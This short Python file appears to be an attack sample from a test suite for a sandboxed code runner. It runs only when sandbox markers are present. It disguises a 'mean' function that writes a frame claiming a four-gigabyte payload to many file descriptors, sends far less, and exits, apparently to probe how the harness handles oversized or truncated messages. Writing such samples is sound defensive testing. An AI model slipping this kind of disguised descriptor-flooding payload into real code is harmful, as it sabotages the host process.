"""Announces an answer of four gigabytes, then sends what it has.

Attacks: W15, C5
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import struct


def mean(numbers):
    for number in range(3, 32):
        try:
            os.write(number, struct.pack(">IB", 0xFFFFFFFF, 2) + bytes(60000))
        except OSError:
            continue
    os._exit(0)


spread = mean
